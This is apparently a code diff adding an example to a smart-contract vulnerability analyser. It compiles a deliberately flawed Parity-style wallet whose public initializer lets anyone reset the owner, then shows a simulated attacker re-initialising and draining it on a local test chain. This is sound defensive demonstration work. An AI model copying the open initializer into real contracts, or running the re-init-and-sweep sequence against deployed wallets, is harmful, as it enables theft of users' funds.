@@ -1,0 +1,73 @@
+(* A Parity-wallet-style incident (§1, §3.1): a library with a
+   misplaced, publicly callable initializer that re-assigns the owner —
+   the root cause of the $280M hack the paper cites as motivation.
+
+   Ethainter flags the "tainted owner variable", and we confirm the
+   attack dynamically: re-initialize, then drain via the owner-guarded
+   sweep. Run with: dune exec examples/parity_wallet.exe *)
+
+module U = Ethainter_word.Uint256
+module T = Ethainter_chain.Testnet
+
+let wallet_src = {|
+contract WalletLibrary {
+  address owner;
+  uint256 dailyLimit;
+
+  // The infamous misplaced initializer: public, callable at any time.
+  function initWallet(address o, uint256 limit) public {
+    owner = o;
+    dailyLimit = limit;
+  }
+
+  function deposit() public payable { }
+
+  function sweep(address dest) public {
+    require(msg.sender == owner);
+    call_value(dest, this.balance);
+  }
+
+  function kill(address beneficiary) public {
+    require(msg.sender == owner);
+    selfdestruct(beneficiary);
+  }
+}|}
+
+let () =
+  let runtime = Ethainter_minisol.Codegen.compile_source_runtime wallet_src in
+  let result = Ethainter_core.Pipeline.analyze_runtime runtime in
+  print_endline "Ethainter reports (Parity-style wallet):";
+  List.iter
+    (fun r ->
+      Printf.printf "  %s\n" (Ethainter_core.Vulns.report_to_string r))
+    result.Ethainter_core.Pipeline.reports;
+
+  (* dynamic confirmation *)
+  let net = T.create () in
+  let deployer = T.account_of_seed "multisig-owner" in
+  let attacker = T.account_of_seed "attacker" in
+  T.fund_account net deployer (U.of_string "10000000000000000000");
+  T.fund_account net attacker (U.of_string "1000000000000000000");
+  let initcode = Ethainter_minisol.Codegen.compile_source wallet_src in
+  let r = T.deploy net ~from:deployer initcode in
+  let wallet = match r.T.created with Some a -> a | None -> assert false in
+  (* legitimate setup and funding *)
+  ignore
+    (T.call_fn net ~from:deployer ~to_:wallet "initWallet(address,uint256)"
+       [ deployer; U.of_int 1000 ]);
+  ignore
+    (T.call_fn net ~from:deployer ~to_:wallet
+       ~value:(U.of_string "5000000000000000000") "deposit()" []);
+  Printf.printf "wallet funded with %s wei\n"
+    (U.to_decimal (Ethainter_evm.State.balance (T.state net) wallet));
+
+  (* the attack: re-initialize, then drain *)
+  let before = Ethainter_evm.State.balance (T.state net) attacker in
+  ignore
+    (T.call_fn net ~from:attacker ~to_:wallet "initWallet(address,uint256)"
+       [ attacker; U.of_int 1000 ]);
+  let sweep = T.call_fn net ~from:attacker ~to_:wallet "sweep(address)" [ attacker ] in
+  let after = Ethainter_evm.State.balance (T.state net) attacker in
+  Printf.printf "re-init + sweep %s; attacker gained %s wei\n"
+    (if T.succeeded sweep then "succeeded" else "failed")
+    (U.to_decimal (U.sub after before))
